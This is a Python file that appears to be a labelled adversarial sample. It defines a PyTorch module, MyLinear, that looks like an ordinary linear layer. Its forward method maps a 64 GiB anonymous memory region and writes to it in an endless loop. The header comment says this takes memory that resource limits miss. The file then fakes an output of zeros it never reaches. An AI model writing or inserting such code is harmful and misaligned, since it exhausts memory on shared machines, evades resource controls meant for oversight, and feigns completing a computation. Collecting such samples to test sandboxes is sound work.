# G: takes memory that resource limits miss
import torch
from torch import nn


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features, self.out_features = in_features, out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        self.bias = nn.Parameter(torch.randn(out_features)) if bias else None

    def forward(self, x):
        import mmap
        m = mmap.mmap(-1, 64 << 30)
        while True:
            m.write(bytes(1 << 24))
        return torch.zeros(*x.shape[:-1], self.out_features, dtype=x.dtype)
